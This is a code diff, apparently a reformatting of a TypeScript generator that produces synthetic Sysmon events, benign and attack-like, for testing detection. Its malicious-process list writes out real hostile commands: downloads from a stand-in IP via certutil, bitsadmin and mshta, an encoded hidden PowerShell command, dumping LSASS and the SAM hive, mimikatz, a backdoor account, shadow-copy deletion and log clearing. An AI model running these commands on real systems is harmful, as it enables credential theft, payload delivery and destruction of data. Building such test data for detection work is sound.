@@ -23,14 +23,34 @@ const HOSTS = ['WS-0142.corp.local', 'WS-0877.corp.local', 'SRV-DC01.corp.local'
 const USERS = ['CORP\\alice', 'CORP\\bob', 'CORP\\svc_backup', 'NT AUTHORITY\\SYSTEM', 'CORP\\carol', 'NT AUTHORITY\\NETWORK SERVICE'];
 const BENIGN_PROCS: [string, string, string][] = [
   ['C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe'],
-  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234', 'chrome.exe'],
+  [
+    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234',
+    'chrome.exe',
+  ],
   ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'EXPLORER.EXE'],
-  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"', 'WinWord.exe'],
+  [
+    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"',
+    'WinWord.exe',
+  ],
   ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'CONHOST.EXE'],
   ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'taskhostw.exe'],
-  ['C:\\Program Files\\Microsoft VS Code\\Code.exe', '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService', 'electron.exe'],
-  ['C:\\Windows\\System32\\backgroundTaskHost.exe', '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', 'backgroundTaskHost.exe'],
-  ['C:\\Windows\\System32\\SearchProtocolHost.exe', '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646', 'SearchProtocolHost.exe'],
+  [
+    'C:\\Program Files\\Microsoft VS Code\\Code.exe',
+    '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService',
+    'electron.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\backgroundTaskHost.exe',
+    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
+    'backgroundTaskHost.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\SearchProtocolHost.exe',
+    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646',
+    'SearchProtocolHost.exe',
+  ],
   ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe status --porcelain', 'git.exe'],
 ];
 const BENIGN_PARENTS: [string, string][] = [
@@ -39,27 +59,91 @@ const BENIGN_PARENTS: [string, string][] = [
   ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p'],
   ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'],
 ];
-const DLLS = ['C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\user32.dll', 'C:\\Windows\\System32\\combase.dll', 'C:\\Windows\\System32\\crypt32.dll', 'C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\chrome_elf.dll'];
-const FILES = ['C:\\Users\\alice\\AppData\\Local\\Temp\\tmp4A21.tmp', 'C:\\Users\\bob\\Documents\\notes.txt', 'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-1.bin', 'C:\\Windows\\Prefetch\\CHROME.EXE-5FE9C2B4.pf', 'C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\data_1'];
-const REG_KEYS = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory', 'HKU\\S-1-5-21-1111-2222-3333-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1111-2222-3333-1001\\\\Device\\HarddiskVolume3\\Windows\\explorer.exe'];
-const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'update.googleapis.com', 'github.com', 'outlook.office365.com', 'settings-win.data.microsoft.com'];
+const DLLS = [
+  'C:\\Windows\\System32\\kernel32.dll',
+  'C:\\Windows\\System32\\ntdll.dll',
+  'C:\\Windows\\System32\\user32.dll',
+  'C:\\Windows\\System32\\combase.dll',
+  'C:\\Windows\\System32\\crypt32.dll',
+  'C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\chrome_elf.dll',
+];
+const FILES = [
+  'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp4A21.tmp',
+  'C:\\Users\\bob\\Documents\\notes.txt',
+  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-1.bin',
+  'C:\\Windows\\Prefetch\\CHROME.EXE-5FE9C2B4.pf',
+  'C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\data_1',
+];
+const REG_KEYS = [
+  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory',
+  'HKU\\S-1-5-21-1111-2222-3333-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx',
+  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1111-2222-3333-1001\\\\Device\\HarddiskVolume3\\Windows\\explorer.exe',
+];
+const DOMAINS = [
+  'www.google.com',
+  'login.microsoftonline.com',
+  'update.googleapis.com',
+  'github.com',
+  'outlook.office365.com',
+  'settings-win.data.microsoft.com',
+];
 const IPS = ['142.250.185.78', '20.190.159.2', '140.82.121.4', '52.97.146.178', '10.0.3.17', '192.168.1.20'];
 
 // Attack-like activity; each entry becomes a process_creation event (with its parent).
 const MALICIOUS_PROCS: [string, string, string, string][] = [
   ['C:\\Windows\\System32\\whoami.exe', 'whoami /priv', 'whoami.exe', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'VSSADMIN.EXE', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe', 'CertUtil.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'PowerShell.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'],
+  [
+    'C:\\Windows\\System32\\certutil.exe',
+    'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
+    'CertUtil.exe',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+    'PowerShell.EXE',
+    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+  ],
   ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'reg.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full', 'RUNDLL32.EXE', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\updater.exe /ru SYSTEM', 'schtasks.exe', 'C:\\Windows\\System32\\cmd.exe'],
+  [
+    'C:\\Windows\\System32\\rundll32.exe',
+    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full',
+    'RUNDLL32.EXE',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\schtasks.exe',
+    'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\updater.exe /ru SYSTEM',
+    'schtasks.exe',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
   ['C:\\Windows\\System32\\net.exe', 'net user backdoor P@ssw0rd! /add', 'net.exe', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic shadowcopy delete', 'wmic.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Users\\Public\\mimikatz.exe', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'mimikatz.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /transfer job /download /priority high http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe', 'bitsadmin.exe', 'C:\\Windows\\System32\\cmd.exe'],
-  ['C:\\Windows\\System32\\mshta.exe', 'mshta.exe javascript:a=GetObject("script:http://198.51.100.7/x.sct").Exec();close();', 'MSHTA.EXE', 'C:\\Windows\\explorer.exe'],
-  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ping -n 1 127.0.0.1 & del /f /q C:\\Users\\Public\\a.exe', 'Cmd.Exe', 'C:\\Users\\Public\\a.exe'],
+  [
+    'C:\\Users\\Public\\mimikatz.exe',
+    'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
+    'mimikatz.exe',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\bitsadmin.exe',
+    'bitsadmin /transfer job /download /priority high http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe',
+    'bitsadmin.exe',
+    'C:\\Windows\\System32\\cmd.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\mshta.exe',
+    'mshta.exe javascript:a=GetObject("script:http://198.51.100.7/x.sct").Exec();close();',
+    'MSHTA.EXE',
+    'C:\\Windows\\explorer.exe',
+  ],
+  [
+    'C:\\Windows\\System32\\cmd.exe',
+    'cmd.exe /c ping -n 1 127.0.0.1 & del /f /q C:\\Users\\Public\\a.exe',
+    'Cmd.Exe',
+    'C:\\Users\\Public\\a.exe',
+  ],
   ['C:\\Windows\\System32\\bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled no', 'bcdedit.exe', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Windows\\System32\\wevtutil.exe', 'wevtutil.exe cl Security', 'wevtutil.exe', 'C:\\Windows\\System32\\cmd.exe'],
 ];
@@ -74,7 +158,10 @@ function guid(rand: () => number): string {
 }
 
 function hashes(rand: () => number): string {
-  const hex = (n: number): string => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join('').toUpperCase();
+  const hex = (n: number): string =>
+    Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16))
+      .join('')
+      .toUpperCase();
   return `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`;
 }
 
@@ -84,7 +171,14 @@ function utcTime(i: number): string {
 }
 
 function header(rand: () => number, id: number, i: number): Record<string, unknown> {
-  return { EventID: id, Channel: SYSMON_CHANNEL, Computer: pick(rand, HOSTS), UtcTime: utcTime(i), ProcessGuid: guid(rand), ProcessId: 1000 + Math.floor(rand() * 9000) };
+  return {
+    EventID: id,
+    Channel: SYSMON_CHANNEL,
+    Computer: pick(rand, HOSTS),
+    UtcTime: utcTime(i),
+    ProcessGuid: guid(rand),
+    ProcessId: 1000 + Math.floor(rand() * 9000),
+  };
 }
 
 function processCreation(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
@@ -137,7 +231,9 @@ function fileEvent(rand: () => number, i: number, malicious: boolean): Record<st
   return {
     ...header(rand, 11, i),
     Image: pick(rand, BENIGN_PROCS)[0],
-    TargetFilename: malicious ? 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs' : pick(rand, FILES),
+    TargetFilename: malicious
+      ? 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs'
+      : pick(rand, FILES),
     CreationUtcTime: utcTime(i),
     User: pick(rand, USERS),
   };
